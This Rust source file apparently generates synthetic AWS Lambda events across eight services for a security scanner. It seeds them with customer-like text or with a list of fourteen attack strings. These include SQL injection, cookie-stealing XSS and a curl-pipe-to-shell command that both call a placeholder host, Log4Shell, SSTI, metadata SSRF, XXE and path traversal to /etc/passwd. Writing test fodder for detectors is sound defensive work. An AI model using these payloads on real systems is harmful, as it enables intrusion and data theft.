//! Events of a fleet's functions: eight services, and what customers and attackers write.
//! It never knows what the engine makes of them.
use serde_json::{Value, json};

use crate::numbers::Numbers;

/// Services, by the shape of their events.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Shape {
    Http,
    Rest,
    Url,
    Queue,
    Topic,
    Bucket,
    Bus,
    Stream,
}

/// What attackers write.
pub(crate) const ATTACKS: [&str; 14] = [
    "7' OR '1'='1' -- §",
    "1 UNION SELECT name, password FROM users WHERE a='§'",
    "<script>fetch('//§.example/'+document.cookie)</script>",
    "<img src=x onerror=alert('§')>",
    "../../../../etc/passwd§",
    "; cat /etc/passwd # §",
    "$(curl http://§.example/a|sh)",
    "${jndi:ldap://§.example/a}",
    "{{§.__class__.__mro__[1].__subclasses__()}}",
    "http://169.254.169.254/latest/meta-data/§",
    "*)(uid=*))(|(uid=§",
    "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA§",
    "x%0d%0aSet-Cookie:%20admin=§",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/§\">]><a>&b;</a>",
];

/// What customers write.
const PLAIN: [&str; 6] = [
    "two blue chairs § and a table",
    "O'Brien § and sons",
    "§@example.com",
    "2026-11-12 §",
    "a note about order §, please call",
    "https://shop.example.com/items/§",
];

/// A value, harmful or not.
pub(crate) fn value(numbers: &mut Numbers, is_attack: bool, hot: Option<usize>) -> String {
    let text = match (is_attack, hot) {
        (true, Some(at)) => ATTACKS[at % ATTACKS.len()],
        (true, None) => numbers.one_of(&ATTACKS),
        (false, _) => numbers.one_of(&PLAIN),
    };
    text.replace('§', &numbers.hex(6))
}

const NAMES: [&str; 5] = ["id", "q", "name", "note", "file"];

/// An event of a shape with some values in it, at the place of a scanner or somewhere.
pub(crate) fn event(
    shape: Shape,
    numbers: &mut Numbers,
    values: &[String],
    is_hot: bool,
) -> Vec<u8> {
    let first = values.first().map_or("", String::as_str);
    let name = if is_hot {
        NAMES[0]
    } else {
        *numbers.one_of(&NAMES)
    };
    let request = numbers.hex(12);
    let event = match shape {
        Shape::Http | Shape::Url => http(shape, &request, name, first),
        Shape::Rest => json!({ "resource": "/orders", "path": "/orders", "httpMethod": "POST",
            "headers": { "content-type": "application/json" }, "queryStringParameters": null,
            "requestContext": { "resourcePath": "/orders", "httpMethod": "POST", "stage": "prod",
                "requestId": request, "apiId": "r1", "identity": { "sourceIp": "192.0.2.9" } },
            "body": json!({ name: first, "count": 3 }).to_string(), "isBase64Encoded": false }),
        Shape::Queue => records(values, |at, value| {
            json!({ "messageId": format!("{request}-{at}"), "receiptHandle": "r",
                "body": json!({ name: value }).to_string(), "attributes": {},
                "messageAttributes": {}, "md5OfBody": "0", "eventSource": "aws:sqs",
                "eventSourceARN": "arn:aws:sqs:eu-west-1:1:orders", "awsRegion": "eu-west-1" })
        }),
        Shape::Topic => records(values, |at, value| {
            json!({ "EventSource": "aws:sns", "EventVersion": "1.0",
                "EventSubscriptionArn": "arn:aws:sns:eu-west-1:1:news:1",
                "Sns": { "Type": "Notification", "MessageId": format!("{request}-{at}"),
                    "TopicArn": "arn:aws:sns:eu-west-1:1:news", "Subject": "s",
                    "Message": value, "Timestamp": "2026-11-12T00:00:00.000Z" } })
        }),
        Shape::Bucket => records(values, |_, value| {
            json!({ "eventVersion": "2.1", "eventSource": "aws:s3", "awsRegion": "eu-west-1",
                "eventName": "ObjectCreated:Put", "s3": { "s3SchemaVersion": "1.0",
                    "bucket": { "name": "uploads", "arn": "arn:aws:s3:::uploads" },
                    "object": { "key": value, "size": 9, "eTag": "0" } } })
        }),
        Shape::Bus => json!({ "version": "0", "id": request, "detail-type": "order placed",
            "source": "shop.orders", "account": "1", "time": "2026-11-12T00:00:00Z",
            "region": "eu-west-1", "resources": [], "detail": { name: first } }),
        Shape::Stream => records(values, |at, value| {
            json!({ "eventID": format!("{request}-{at}"), "eventName": "INSERT",
                "eventSource": "aws:dynamodb", "awsRegion": "eu-west-1",
                "dynamodb": { "Keys": { "id": { "S": "1" } },
                    "NewImage": { name: { "S": value } }, "SequenceNumber": "1" },
                "eventSourceARN": "arn:aws:dynamodb:eu-west-1:1:table/orders/stream/1" })
        }),
    };
    event.to_string().into_bytes()
}

/// An event of an HTTP API, or of a Function URL.
fn http(shape: Shape, request: &str, name: &str, first: &str) -> Value {
    let path = if shape == Shape::Url { "/" } else { "/items" };
    let key = if shape == Shape::Url {
        "$default"
    } else {
        "GET /items"
    };
    let domain = if shape == Shape::Url {
        "a1b2.lambda-url.eu-west-1.on.aws"
    } else {
        "a1b2.execute-api.eu-west-1.amazonaws.com"
    };
    json!({ "version": "2.0", "routeKey": key, "rawPath": path, "rawQueryString": "",
                "headers": { "host": domain, "user-agent": "Mozilla/5.0" },
                "queryStringParameters": { name: first },
                "requestContext": { "apiId": "a1b2", "domainName": domain, "stage": "$default",
                    "requestId": request, "routeKey": key,
                    "http": { "method": "GET", "path": path, "sourceIp": "192.0.2.7" } },
                "isBase64Encoded": false })
}

fn records(values: &[String], record: impl Fn(usize, &str) -> Value) -> Value {
    let all = values.iter().enumerate();
    let all: Vec<Value> = all.map(|(at, value)| record(at, value)).collect();
    json!({ "Records": all })
}

/// An event of which not every byte can be looked at.
pub(crate) fn damaged(numbers: &mut Numbers) -> Vec<u8> {
    // The body says that it is gzip, and is cut.
    let body = format!("H4sIAAAAAAAAA{}", numbers.hex(8));
    let event = json!({ "version": "2.0", "routeKey": "$default", "rawPath": "/",
        "headers": { "content-encoding": "gzip", "content-type": "application/json" },
        "requestContext": { "apiId": "a", "domainName": "a", "stage": "$default",
            "http": { "method": "POST", "path": "/" } },
        "body": body, "isBase64Encoded": true });
    event.to_string().into_bytes()
}
